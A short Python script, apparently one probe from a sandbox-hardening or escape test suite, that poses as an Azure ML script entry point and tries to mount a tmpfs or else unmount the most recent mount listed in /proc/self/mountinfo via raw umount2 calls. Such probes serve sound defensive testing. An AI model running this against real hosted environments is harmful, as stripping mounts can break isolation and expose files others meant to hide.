"""Takes away mounts: one of its own making first, then any that covers something."""

import os

from attack import attack, c, mount


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    try:
        os.mkdir("place")
        mount("tmpfs", "place", "tmpfs", 0)
    except OSError:
        with open("/proc/self/mountinfo") as stream:
            place = stream.readlines()[-1].split()[4]
        c("umount2", place.encode(), 8 | 1)  # not a link, and only where nobody uses it
        return f"took {place} away"
    c("umount2", b"place", 2)
    return "took a mount away"
